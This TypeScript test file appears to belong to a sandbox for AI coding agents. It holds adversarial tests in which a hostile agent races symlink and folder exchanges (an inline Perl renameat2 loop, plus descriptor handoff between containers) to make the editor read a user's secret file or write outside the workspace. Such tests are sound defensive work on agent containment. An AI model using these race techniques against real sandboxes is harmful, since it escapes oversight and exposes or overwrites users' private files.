/** Attacks on the time between our look at a path and the moment in which the editor opens it. */
import { existsSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { Place } from '../engine/place';
import type { Running } from '../engine/running';
import { Cai, ownFile, ownFolder } from '../engine/support';
import { isNightly } from '../support/nightly';
import { attempt, reachedIf } from './attempt';
import { handsFolder, receivesFolder } from './handed-folder';
import { agent, hostileConfig, Scene, sceneFor, type Outcome } from './hostile-agent';

/** How often the agent asks, in each attack; before containers stood still meanwhile, 3 of 10 had the secret. */
const tries = Number(process.env.CAI_TEST_TRIES ?? (isNightly ? 200 : 50));
const timeoutMs = 60_000 + 500 * tries;

/** Exchanges two names as quickly as it can, each time at once (renameat2 with RENAME_EXCHANGE), until it is ended. */
const exchange = `
  my (undef, undef, undef, undef, $machine) = POSIX::uname();
  my $renameat2 = $machine eq "aarch64" ? 276 : 316;
  my ($one, $other) = @ARGV;
  print "exchanges\\n";
  STDOUT->flush();
  while (1) { syscall($renameat2, -100, $one, -100, $other, 2) == 0 or die "$one and $other: $!" }`;

// By a volume that containers share, one can hand a folder to another.
const cai = new Cai(`${hostileConfig()}[agent]\ndata = "shared"\n`);
const secret = join(cai.home, 'private/secret');
ownFile(secret, 'SECRET OF THE USER\n');
const own = sceneFor({ cai });
/** Whose agent is asked. */
let scene = own;
let lastNames = 0;

/** Exchanges two names in a folder that it is handed. */
const exchangeInReceived = `${receivesFolder}
os.set_inheritable(folder, True)
*command, one, other = sys.argv[1:]
os.execvp(command[0], [*command, *(f"/proc/self/fd/{folder}/{name}" for name in (one, other))])`;

/** In a new folder of the scene: a folder with a file, the file itself, and links to where the secret is. */
function newNames(of = scene): Record<'folder' | 'file' | 'toFolder' | 'toFile', string> {
  const base = join(of.workspace, `names-${++lastNames}`);
  ownFolder(base);
  ownFile(join(base, 'folder/secret'), 'a file of the workspace\n');
  ownFile(join(base, 'file'), 'a file of the workspace\n');
  return {
    folder: join(base, 'folder'),
    file: join(base, 'file'),
    toFolder: join(base, 'to-folder'),
    toFile: join(base, 'to-file'),
  };
}

/** The command that exchanges two names. */
function exchangeOf(one: string, other: string): string[] {
  return ['perl', '-MPOSIX', '-MIO::Handle', '-e', exchange, one, other];
}

/** While two names are exchanged by `by`, has the agent ask for a file many times; all that came of it. */
async function asking(
  by: Place,
  [one, other]: readonly [string, string],
  step: Parameters<Scene['take']>[0],
): Promise<Outcome[]> {
  return await askingWhile(by.start(exchangeOf(one, other)), step);
}

/** The same, while a program exchanges them that says so when it begins. */
async function askingWhile(loop: Running, step: Parameters<Scene['take']>[0]): Promise<Outcome[]> {
  await loop.says('exchanges');
  try {
    const outcomes: Outcome[] = [];
    while (outcomes.length < tries)
      outcomes.push(...(await scene.take(...Array<typeof step>(50).fill(step))));
    if (loop.child.exitCode !== null) throw new Error(`the exchange has ended: ${loop.stderr}`);
    return outcomes;
  } finally {
    loop.child.kill('SIGKILL');
    await loop.ends();
  }
}

/** What of the secret came; rejects where nothing came at all. */
function secretIn(outcomes: readonly Outcome[]): string | undefined {
  const count = (text: string): number =>
    outcomes.filter(({ result }) => JSON.stringify(result?.content ?? '').includes(text)).length;
  const [secrets, own] = [count('SECRET'), count('a file of the workspace')];
  if (own + secrets === 0) throw new Error(`nothing was served: ${JSON.stringify(outcomes[0])}`);
  return reachedIf(
    secrets > 0,
    `the secret, ${secrets} times in ${outcomes.length}; a file of its own ${own} times`,
  );
}

function ownPlace(): Place {
  return new Place(cai, scene.workspace, ['--agent', agent]);
}

attempt(
  'an agent that exchanges a file and a link without a pause has a file of the user read',
  async () => {
    const { file, toFile } = newNames();
    await scene.sh(`ln -s ${secret} ${toFile}`);
    const step = { ask: 'fs/read_text_file', params: { path: file } };
    return secretIn(await asking(ownPlace(), [file, toFile], step));
  },
  timeoutMs,
);

attempt(
  'an agent that exchanges a folder and a link without a pause has a file of the user read',
  async () => {
    const { folder, toFolder } = newNames();
    await scene.sh(`ln -s ${join(cai.home, 'private')} ${toFolder}`);
    const step = { ask: 'fs/read_text_file', params: { path: join(folder, 'secret') } };
    return secretIn(await asking(ownPlace(), [folder, toFolder], step));
  },
  timeoutMs,
);

attempt(
  'an agent that exchanges a file and a link without a pause has a file of the user written',
  async () => {
    const { file, toFile } = newNames();
    const target = join(cai.home, 'private/written');
    await scene.sh(`ln -s ${target} ${toFile}`);
    const step = { ask: 'fs/write_text_file', params: { path: file, content: 'echo owned\n' } };
    const outcomes = await asking(ownPlace(), [file, toFile], step);
    if (outcomes.every(({ error }) => error !== undefined)) throw new Error(JSON.stringify(outcomes[0]));
    return reachedIf(existsSync(target), `${target} was written`);
  },
  timeoutMs,
);

attempt(
  'an agent whose folder another container has, too, has a file of the user read by what that one exchanges',
  async () => {
    const outer = new Place(cai, scene.workspace, ['--agent', agent]);
    const inner = join(scene.workspace, 'inner');
    ownFolder(join(inner, '.git'));
    ownFile(join(inner, '.git/HEAD'), 'ref: refs/heads/main\n');
    ownFolder(join(inner, '.git/objects'));
    ownFolder(join(inner, '.git/refs'));
    const nested = await Scene.open({ cai, workspace: inner });
    try {
      const { file, toFile } = newNames(nested);
      await nested.sh(`ln -s ${secret} ${toFile}`);
      scene = nested;
      const step = { ask: 'fs/read_text_file', params: { path: file } };
      return secretIn(await asking(outer, [file, toFile], step));
    } finally {
      scene = own;
      await nested.close();
    }
  },
  timeoutMs,
);

attempt(
  'an agent that hands its folder to another container has a file of the user read by what that one exchanges',
  async () => {
    const { file, toFile } = newNames();
    await scene.sh(`ln -s ${secret} ${toFile}`);
    const other = await new Place(cai, undefined, ['--agent', agent]).opened();
    const loop = other.start(['python3', '-c', exchangeInReceived, ...exchangeOf(basename(file), basename(toFile))]); // prettier-ignore
    await loop.says('listens');
    await scene.sh(`python3 -c '${handsFolder}' ${dirname(file)}`);
    return secretIn(await askingWhile(loop, { ask: 'fs/read_text_file', params: { path: file } }));
  },
  timeoutMs,
);
